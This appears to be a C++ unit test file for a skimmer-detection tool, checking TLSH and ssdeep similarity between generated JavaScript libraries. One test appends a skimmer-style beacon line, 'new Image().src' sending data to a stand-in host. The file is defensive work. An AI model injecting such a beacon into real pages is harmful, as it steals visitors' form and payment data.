#include "agent/script/judge/similarity.h"

#include <string>

#include "absl/strings/str_cat.h"
#include "gtest/gtest.h"

namespace skimwatch::script {
namespace {

std::string Library(int version) {
  std::string text;
  for (int i = 0; i < 400; ++i) {
    absl::StrAppend(&text, "function part", i, "(a,b){return a.method", i % 37, "(b,",
                    i % 20 == 0 ? i * version : i * 31, ")}\n");
  }
  return text;
}

TEST(Similarity, IsFullForTheSameText) {
  const SimilarityDigests digests = DigestsOf(Library(1));
  EXPECT_EQ(TlshDistance(digests, digests), 0);
  EXPECT_EQ(SsdeepScore(digests, digests), 100);
}

TEST(Similarity, TlshIsNearForAVersionThatDiffersALittleEverywhere) {
  const int distance = TlshDistance(DigestsOf(Library(1)), DigestsOf(Library(7)));
  EXPECT_GE(distance, 0);
  EXPECT_LT(distance, 60);
}

TEST(Similarity, SsdeepIsHighForATextWithSomethingAdded) {
  const std::string text = Library(1);
  EXPECT_GT(SsdeepScore(DigestsOf(text), DigestsOf(text + "new Image().src='//a.example'+d;")), 90);
}

TEST(Similarity, IsLowForAnotherText) {
  std::string other;
  for (int i = 0; i < 900; ++i) absl::StrAppend(&other, "<p class='c", i * 7919, "'>word</p>\n");
  EXPECT_GT(TlshDistance(DigestsOf(Library(1)), DigestsOf(other)), 100);
  EXPECT_LT(SsdeepScore(DigestsOf(Library(1)), DigestsOf(other)), 20);
}

TEST(Similarity, SaysSoWhereATextIsTooShort) {
  EXPECT_EQ(TlshDistance(DigestsOf("a"), DigestsOf(Library(1))), -1);
  EXPECT_EQ(SsdeepScore(DigestsOf(""), DigestsOf(Library(1))), -1);
}

}  // namespace
}  // namespace skimwatch::script
